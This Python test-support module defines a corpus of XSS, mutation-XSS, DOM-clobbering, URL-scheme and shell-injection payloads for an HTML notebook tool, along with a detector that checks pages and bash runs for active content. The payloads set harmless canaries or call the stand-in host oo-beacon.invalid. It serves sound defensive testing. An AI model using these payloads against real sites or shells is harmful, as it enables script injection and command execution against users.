"""Hostile payloads, and a detector that says whether any of them is still ACTIVE in a page.

Shared by the reliability run (agent output through the proposal pipeline) and the browser
tests (titles, headings, contract fields, agent output). Every payload carries a trace: the
canary it would set (``window.ooPwned = NAME``), the beacon host it would contact
(``oo-beacon.invalid``) or the file its shell code would create (``pwned-NAME``)::

    from tests.support.payloads import PAYLOADS, active_findings, shell_findings
    findings = active_findings(written_bytes, baseline=original_bytes)   # [] when inert

``active_findings`` parses the page as a browser would (lxml, the whole file) and lists what can
act that the baseline page did not have: script elements, event-handler attributes,
javascript:/vbscript:/data: URLs, any URL but a raster data: image in an attribute the browser
fetches by itself (``src``, ``srcset``, ``poster``, ``background``, ``<link href>``...: a
beacon), frames, objects, forms, meta refresh, base, link, style elements and CSS
``url()``/``@import`` (CSS escapes resolved), ``data-commandlinker-*`` attributes,
duplicates of the page's own ids (DOM clobbering) and JSON blocks that do not parse as exactly
the block oo_nb reads (closed early). ``shell_findings`` runs ``bash FILE --help`` in an empty
folder and lists the files the run created."""

from __future__ import annotations

import html as html_lib
import json
import os
import re
import shutil
import subprocess
import tempfile
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from lxml import etree
from lxml import html as lxml_html

from oo_nb.errors import OOError
from oo_nb.format.document import BLOCK_IDS, Document

__all__ = [
    "BEACON_HOST",
    "CANARY",
    "PAYLOADS",
    "Payload",
    "active_findings",
    "payload",
    "shell_findings",
]

CANARY = "ooPwned"  # a payload that runs sets window.ooPwned to its name
BEACON_HOST = "oo-beacon.invalid"  # a payload that loads something asks this host
Context = Literal["html", "text", "url", "shell"]


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    # Where it is dangerous: "html" (agent-written HTML), "text" (titles, summaries, facts,
    # contract fields: must stay text), "url" (a source or link URL), "shell" (the polyglot).
    context: Context


def _js(name: str) -> str:
    return f"window.{CANARY}='{name}'"


def _b(name: str) -> str:
    return f"https://{BEACON_HOST}/{name}"


_HTML: list[tuple[str, str]] = [
    ("script-tag", f"<script>{_js('script-tag')}</script>"),
    ("script-src", f'<script src="{_b("script-src.js")}"></script>'),
    ("script-upper", f"<SCRIPT>{_js('script-upper')}</SCRIPT>"),
    ("img-onerror", f'<img src=x onerror="{_js("img-onerror")}">'),
    ("div-onmouseover", f'<div onmouseover="{_js("div-onmouseover")}">hover me</div>'),
    ("input-onfocus", f'<input autofocus onfocus="{_js("input-onfocus")}">'),
    ("details-ontoggle", f'<details open ontoggle="{_js("details-ontoggle")}">x</details>'),
    ("body-onload", f'<body onload="{_js("body-onload")}">'),
    ("video-source-onerror", f'<video><source onerror="{_js("video-source-onerror")}"></video>'),
    ("js-link", f'<a href="javascript:{_js("js-link")}">click</a>'),
    ("js-link-entity", f'<a href="jav&#x61;script:{_js("js-link-entity")}">click</a>'),
    ("js-link-tab", f'<a href="java\tscript:{_js("js-link-tab")}">click</a>'),
    ("js-link-space", f'<a href=" javascript:{_js("js-link-space")}">click</a>'),
    ("vbscript-link", '<a href="vbscript:msgbox(1)">click</a>'),
    (
        "data-html-link",
        f'<a href="data:text/html,&lt;script&gt;{_js("data-html-link")}&lt;/script&gt;">click</a>',
    ),
    (
        "data-html-base64",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    ),
    ("svg-onload", f'<svg onload="{_js("svg-onload")}"><circle r="1"/></svg>'),
    ("svg-script", f"<svg><script>{_js('svg-script')}</script></svg>"),
    ("svg-data-image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">'),
    (
        "iframe-srcdoc",
        f"<iframe srcdoc=\"<script>parent.{CANARY}='iframe-srcdoc'</script>\"></iframe>",
    ),
    ("iframe-js", f"<iframe src=\"javascript:parent.{CANARY}='iframe-js'\"></iframe>"),
    ("object-data", f'<object data="{_b("object")}"></object>'),
    ("embed-src", f'<embed src="{_b("embed")}">'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url={_b("meta-refresh")}">'),
    ("form-action", f'<form action="{_b("form")}"><input name="q"><button>Search</button></form>'),
    (
        "button-formaction",
        f'<button formaction="javascript:{_js("button-formaction")}">go</button>',
    ),
    ("base-href", f'<base href="{_b("base/")}">'),
    ("link-stylesheet", f'<link rel="stylesheet" href="{_b("link.css")}">'),
    ("css-url-attr", f'<p style="background:url({_b("css-attr")})">styled</p>'),
    ("css-url-escaped", f"<p style=\"background-image:u\\72 l('{_b('css-escaped')}')\">styled</p>"),
    # Plain resource loads: nothing runs, but the page calls home (a read receipt, an IP leak).
    ("img-beacon", f'<img src="{_b("pixel.png")}" alt="">'),
    ("img-srcset", f'<img srcset="{_b("srcset.png")} 1x, {_b("srcset2.png")} 2x" alt="">'),
    (
        "picture-source-srcset",
        f'<picture><source srcset="{_b("picture.png")}"><img alt="pic"></picture>',
    ),
    ("video-poster", f'<video poster="{_b("poster.png")}"></video>'),
    (
        "table-background",
        f'<table background="{_b("background.png")}"><tr><td>cell</td></tr></table>',
    ),
    ("input-image", f'<input type="image" src="{_b("input.png")}" alt="go">'),
    ("link-prefetch", f'<link rel="prefetch" href="{_b("prefetch")}">'),
    ("css-style-element", f"<style>body{{background:url({_b('css-element')})}}</style>"),
    ("css-import", f"<style>@import '{_b('css-import')}';</style>"),
    (
        "commandlinker",
        '<button data-commandlinker-command="terminal:create-new">Open a terminal</button>',
    ),
    (
        "math-xlink",
        f'<math><maction actiontype="statusline" xlink:href="javascript:{_js("math-xlink")}">x</maction></math>',
    ),
    (
        "noscript-mxss",
        f'<noscript><p title="</noscript><img src=x onerror={_js("noscript-mxss")}>"></noscript>',
    ),
    ("comment-breakout", f"<!--><script>{_js('comment-breakout')}</script>-->"),
    (
        "pid-comment-breakout",
        f"<!-- pid:x:deadbeef --!><script>{_js('pid-comment-breakout')}</script>",
    ),
    ("article-close", f"</article><script>{_js('article-close')}</script><article>"),
    ("dom-clobber", '<div id="oo-manifest">{"version": 999}</div><a id="toc" name="toc">x</a>'),
    ("template-script", f"<template><script>{_js('template-script')}</script></template>"),
]
_TEXT: list[tuple[str, str]] = [
    ("json-script-close", f"</script><script>{_js('json-script-close')}</script>"),
    ("json-script-close-upper", f"</SCRIPT ><script>{_js('json-script-close-upper')}</script>"),
    ("json-comment-open", f"<!--<script>{_js('json-comment-open')}</script>"),
    ("json-quote-break", '", "version": 999, "oo": "'),
    ("json-line-separators", "a\u2028b\u2029c"),
    ("json-escaped-close", "\\u003c/script\\u003e<\\/script>"),
    ("text-html-tags", f'<b>bold</b><img src=x onerror="{_js("text-html-tags")}">'),
    ("text-entities", f"&lt;script&gt;{_js('text-entities')}&lt;/script&gt;"),
    ("text-bidi", "abc\u202edcba\u2066x\u2069"),
]
_SHELL: list[tuple[str, str]] = [
    ("heredoc-terminator", "\nOO_HTML\ntouch pwned-heredoc-terminator\n: << 'OO_HTML'\n"),
    ("heredoc-terminator-tab", "\n\tOO_HTML\ntouch pwned-heredoc-terminator-tab\n"),
    ("heredoc-terminator-crlf", "\r\nOO_HTML\r\ntouch pwned-heredoc-terminator-crlf\r\n"),
    ("heredoc-liki", "\nLIKI_HTML\ntouch pwned-heredoc-liki\n"),
    ("shell-subst", "$(touch pwned-shell-subst)"),
    ("shell-backticks", "`touch pwned-shell-backticks`"),
    ("shell-param", "${IFS}$(touch${IFS}pwned-shell-param)"),
]
_URL: list[tuple[str, str]] = [
    ("url-javascript", f"javascript:{_js('url-javascript')}"),
    ("url-data-html", f"data:text/html,<script>{_js('url-data-html')}</script>"),
    ("url-quote-break", f'https://example.org/"><script>{_js("url-quote-break")}</script>'),
    # schemes that carry a host: a check that only asks "is there a host?" lets them through
    ("url-javascript-host", f"javascript://example.org/%0A{_js('url-javascript-host')}"),
    ("url-javascript-case", f"JaVaScRiPt://example.org/%0A{_js('url-javascript-case')}"),
    ("url-javascript-padded", f"  \x01javascript://example.org/%0A{_js('url-javascript-padded')}"),
    ("url-vbscript-host", "VBScript://example.org/%0Amsgbox(1)"),
    ("url-data-host", f"data://example.org/text/html,<script>{_js('url-data-host')}</script>"),
]
PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(name, text, context)  # type: ignore[arg-type]
    for group, context in ((_HTML, "html"), (_TEXT, "text"), (_SHELL, "shell"), (_URL, "url"))
    for name, text in group
)


def payload(name: str) -> Payload:
    return next(p for p in PAYLOADS if p.name == name)


# --------------------------------------------------------------------------- detector
_URL_ATTRS = frozenset({"href", "action", "formaction", "xlink:href", "cite"})
# Attributes whose URL the browser fetches by itself (no click needed): anything there but a
# raster data: URI is a request leaving the page (or a script).
_RESOURCE_ATTRS = frozenset(
    {
        "src",
        "srcset",
        "imagesrcset",
        "poster",
        "background",
        "data",
        "ping",
        "codebase",
        "lowsrc",
        "dynsrc",
        "manifest",
        "archive",
    }
)
_HREF_RESOURCE_TAGS = frozenset({"link", "image", "use", "feimage"})  # href/xlink:href loads here
_ACTIVE_TAGS = frozenset(
    {
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "form",
        "base",
        "link",
        "portal",
        "meta",
    }
)
# Parsed differently by a browser with scripting on than by lxml (raw text, foreign content):
# the classic mutation-XSS carriers. Their presence is the finding.
_MXSS_TAGS = frozenset(
    {
        "noscript",
        "noembed",
        "noframes",
        "xmp",
        "plaintext",
        "title",
        "textarea",
        "svg",
        "math",
        "template",
    }
)
# A second <body>/<html> tag: lxml drops it, a browser copies its attributes (onload=…) onto
# the page's own element.
_OPAQUE = re.compile(
    r"<script\b.*?</script\s*>|<style\b.*?</style\s*>|<!--.*?-->", re.IGNORECASE | re.DOTALL
)
_ROOT_HANDLER = re.compile(r"<(?:body|html|head)\b[^>]*?\son[a-z]+\s*=", re.IGNORECASE)
_RASTER = re.compile(r"^data:image/(?:png|jpeg|gif|webp);base64,", re.IGNORECASE)
_STRIP = re.compile(r"[\x00-\x20\x7f]+")
_CSS_ACTIVE = re.compile(r"url\s*\(|@import|expression\s*\(|image-set\s*\(", re.IGNORECASE)
_PAGE_IDS = frozenset(
    {
        "article",
        "doc-title",
        "doc-asof",
        "doc-version",
        "contract-panel",
        "toc",
        "run-meta",
        "references",
        *BLOCK_IDS,
    }
)


def _srcset_urls(value: str) -> list[str]:
    """The URLs of a ``srcset`` (HTML's parsing: a URL runs to whitespace, so the commas inside
    a data: URI do not split it; descriptors run to the next comma)."""
    urls, i, n = [], 0, len(value)
    while i < n:
        while i < n and (value[i].isspace() or value[i] == ","):
            i += 1
        start = i
        while i < n and not value[i].isspace():
            i += 1
        url = value[start:i]
        if url.endswith(","):
            url = url.rstrip(",")
        else:
            while i < n and value[i] != ",":
                i += 1
        if url:
            urls.append(url)
    return urls


def _resource_loads(name: str, value: str) -> bool:
    """Whether a resource attribute makes the browser fetch something (empty: nothing)."""
    urls = _srcset_urls(value) if name in ("srcset", "imagesrcset") else [value]
    for raw in urls:
        url = _STRIP.sub("", html_lib.unescape(raw)).lower()
        if url and not _RASTER.match(url):
            return True
    return False


_CSS_COMMENT = re.compile(r"/\*.*?\*/", re.DOTALL)
_CSS_ESCAPE = re.compile(r"\\(?:([0-9a-fA-F]{1,6})\s?|(.))", re.DOTALL)


def _css_unescape(value: str) -> str:
    """CSS as the browser tokenises it: ``u\\72 l(`` is ``url(``."""

    def one(m: re.Match[str]) -> str:
        if m.group(1):
            code = int(m.group(1), 16)
            return chr(code) if 0 < code <= 0x10FFFF else "\ufffd"
        return m.group(2)

    return _CSS_ESCAPE.sub(one, _CSS_COMMENT.sub("", html_lib.unescape(value)))


def _url_active(value: str) -> bool:
    url = _STRIP.sub("", html_lib.unescape(value)).lower()
    if url.startswith(("javascript:", "vbscript:", "livescript:")):
        return True
    return url.startswith("data:") and not _RASTER.match(url)


def _signature(text: str) -> Counter[str]:
    """Everything in the page that can act, as countable descriptions."""
    sig: Counter[str] = Counter()
    try:
        root = lxml_html.document_fromstring(text)
    except (etree.ParserError, ValueError):
        sig["page: not parseable as HTML"] += 1
        return sig
    ids: Counter[str] = Counter()
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower().rsplit("}", 1)[-1]
        if tag == "script":
            kind = (el.get("type") or "").lower()
            if kind != "application/json" or el.get("src"):
                sig[f"script element: {(el.get('src') or el.text or '').strip()[:60]!r}"] += 1
        elif tag in _ACTIVE_TAGS or tag in _MXSS_TAGS:
            sig[
                f"<{tag}> element: {' '.join(f'{k}={v[:40]}' for k, v in el.attrib.items())[:80]}"
            ] += 1
        elif tag == "style":
            sig[f"<style> element: {(el.text or '').strip()[:60]!r}"] += 1
        for attr, value in el.attrib.items():
            name = attr.lower()
            if name.startswith("on"):
                sig[f"event handler {tag}[{name}]: {value[:50]!r}"] += 1
            elif name in _RESOURCE_ATTRS or (
                name in ("href", "xlink:href") and tag in _HREF_RESOURCE_TAGS
            ):
                if _resource_loads(name, value):
                    sig[f"resource load {tag}[{name}]: {value[:50]!r}"] += 1
            elif name in _URL_ATTRS and _url_active(value):
                sig[f"active URL {tag}[{name}]: {value[:50]!r}"] += 1
            elif name == "srcdoc":
                sig[f"{tag}[srcdoc]: {value[:50]!r}"] += 1
            elif name == "style" and _CSS_ACTIVE.search(_css_unescape(value)):
                sig[f"CSS loading in {tag}[style]: {value[:50]!r}"] += 1
            elif name.startswith("data-commandlinker"):
                sig[f"JupyterLab command {tag}[{name}]={value[:40]!r}"] += 1
            elif name == "id" and value.lower() in _PAGE_IDS:
                ids[value.lower()] += 1
    for page_id, count in ids.items():
        if count > 1:  # a second element with the page's id shadows the real one (DOM clobbering)
            sig[f"{count} elements with the page's id {page_id!r}"] += 1
    for m in _ROOT_HANDLER.finditer(_OPAQUE.sub("", text)):
        sig[f"event handler on a <body>/<html> tag: {m.group(0)[:50]!r}"] += 1
    return sig


def _json_findings(text: str) -> Counter[str]:
    """Each block must read, in the browser's parse, as exactly the JSON that oo_nb reads."""
    try:
        doc = Document(text)
    except OOError as exc:
        return Counter([f"oo_nb cannot read the page: {exc.message}"])
    root = lxml_html.document_fromstring(text)
    found: Counter[str] = Counter()
    for name in doc.blocks:
        try:
            block = doc.block_text(name)
        except OOError as exc:  # e.g. an article element shadowing the block's id
            found[f"oo_nb refuses block {name}: {exc.message}"] += 1
            continue
        scripts = root.xpath(f'//script[@id="{name}"]')
        if not scripts or (scripts[0].text or "") != block:
            found[f"JSON block {name} ends early in a browser"] += 1
        elif re.search(r"<!--|</script", doc.block_text(name), re.IGNORECASE):
            # "<!--" switches the browser's script parser into its escaped states, where a
            # later "<script" makes "</script>" stop ending the block.
            found[f"JSON block {name} holds a raw <!-- or </script"] += 1
        else:
            try:
                json.loads(doc.block_text(name))
            except ValueError:
                found[f"JSON block {name} is not valid JSON"] += 1
    return found


def active_findings(page: bytes | str, *, baseline: bytes | str | None = None) -> list[str]:
    """What can act in ``page`` and was not in ``baseline`` (the page before the change)."""
    text = page.decode("utf-8", "replace") if isinstance(page, bytes) else page
    sig = _signature(text) + _json_findings(text)
    if baseline is not None:
        base = baseline.decode("utf-8", "replace") if isinstance(baseline, bytes) else baseline
        sig -= _signature(base) + _json_findings(base)
    return sorted(sig)


def shell_findings(path: Path, *, timeout: float = 20.0) -> list[str]:
    """Run ``bash FILE --help`` (what a user does) in an empty folder with a minimal
    environment; every file that appears there came from injected shell code."""
    with tempfile.TemporaryDirectory(prefix="oo-shell-") as tmp:
        folder = Path(tmp)
        target = folder / "doc" / path.name
        target.parent.mkdir()
        shutil.copy(path, target)
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": tmp, "LANG": "C.UTF-8"}
        try:
            subprocess.run(
                ["bash", str(target), "--help"],
                cwd=folder,
                env=env,
                timeout=timeout,
                capture_output=True,
                check=False,
            )
        except subprocess.TimeoutExpired:
            return ["bash did not finish (timeout)"]
        created = sorted(
            p.relative_to(folder).as_posix()
            for p in folder.rglob("*")
            if p != target and p != target.parent
        )
        return [f"bash created {name}" for name in created]
